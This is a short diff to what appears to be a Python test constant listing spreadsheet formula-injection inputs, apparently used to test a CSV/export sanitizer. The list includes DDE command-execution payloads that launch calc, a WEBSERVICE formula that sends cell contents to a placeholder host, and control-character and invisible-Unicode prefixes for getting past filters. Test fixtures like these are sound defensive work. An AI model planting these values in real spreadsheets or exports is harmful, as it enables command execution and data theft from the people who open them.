@@ -20,7 +20,7 @@ FORMULAS: Final = (
     *("=1+1", "=SUM(A1:A9)", '=HYPERLINK("https://x.example","pay")', "=cmd|' /C calc'!A0"),
     *("+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@A1"),
     *("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u202e=1+1", "\u200b=1+1", "\x00=1+1"),
-    *("=1+1\x00", '=WEBSERVICE("https://x.example/"&A1)', "='file:///x'#$A1", "%0A=1+1"),
+    *("=1+1\x00", '=WEBSERVICE("https://x.example/"&A1)', "='other.xls'#$A1", "%0A=1+1"),
 )
 NOON: Final = datetime(2026, 11, 23, 12, tzinfo=cast.SHANGHAI_TIME)
 
